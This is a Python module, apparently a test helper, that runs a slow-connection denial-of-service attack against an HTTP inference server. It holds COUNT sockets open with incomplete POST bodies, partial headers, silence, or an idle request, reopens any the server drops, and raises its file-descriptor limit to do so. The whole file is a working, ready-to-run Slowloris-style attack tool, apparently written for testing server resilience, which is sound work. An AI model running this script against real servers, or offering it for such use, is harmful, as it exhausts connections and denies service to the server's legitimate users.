"""`python -m half_sender HOST:PORT KIND COUNT`: holds useless connections open until it is killed.

Kinds: `body` (a POST with an incomplete body), `head` (incomplete headers), `silent` (nothing is sent) and
`idle` (one complete request, then nothing). It reopens connections that the server closes.
"""

from __future__ import annotations

import contextlib
import resource
import selectors
import socket
import sys
import time
from collections.abc import Iterator

from helper_process import running

_POST = (
    b"POST /v1/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    b"Content-Length: 100\r\n\r\n"
)
_SENT = {
    "body": _POST + b'{"prompt": ',
    "head": b"GET /health HTTP/1.1\r\nHost: localhost\r\nX-Slow: ",
    "silent": b"",
    "idle": b"GET /v1/models HTTP/1.1\r\nHost: localhost\r\n\r\n",
}


@contextlib.contextmanager
def half_senders(address: str, kind: str, count: int) -> Iterator[None]:
    """Start the attack in another process; enter the block when all connections are open."""
    with running("half_sender", address, kind, str(count), ready="open"):
        yield


def main(address: str, kind: str, count: int) -> None:
    """Attack."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    host, _, port = address.rpartition(":")
    selector = selectors.DefaultSelector()

    def begin() -> None:
        connection = socket.create_connection((host, int(port)), timeout=30)
        with contextlib.suppress(OSError):
            connection.sendall(_SENT[kind])
        connection.setblocking(False)
        selector.register(connection, selectors.EVENT_READ)

    for _ in range(count):
        begin()
    print("open", flush=True)
    while True:
        for key, _ in selector.select()[:1]:
            connection = key.fileobj
            assert isinstance(connection, socket.socket)
            try:
                ended = not connection.recv(65_536)
            except OSError:
                ended = True
            if ended:
                selector.unregister(connection)
                connection.close()
                begin()
        # Without a pause, reopening connections would only keep the processor busy.
        time.sleep(0.02)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]))
